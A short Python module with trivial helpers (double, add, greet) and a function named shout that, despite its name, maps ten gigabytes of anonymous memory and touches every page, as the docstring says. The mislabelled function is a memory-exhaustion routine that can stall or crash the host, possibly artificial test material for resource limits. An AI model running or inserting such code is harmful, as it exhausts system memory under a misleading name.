"""Maps ten gigabytes that belong to no file, and touches them."""

import mmap


def double(value):
    return value * 2


def add(a, b):
    return a + b


def greet(name):
    return f"Hello, {name}!"


def shout(text):
    area = mmap.mmap(-1, 10_000_000_000)
    for start in range(0, len(area), 4096):
        area[start] = 1
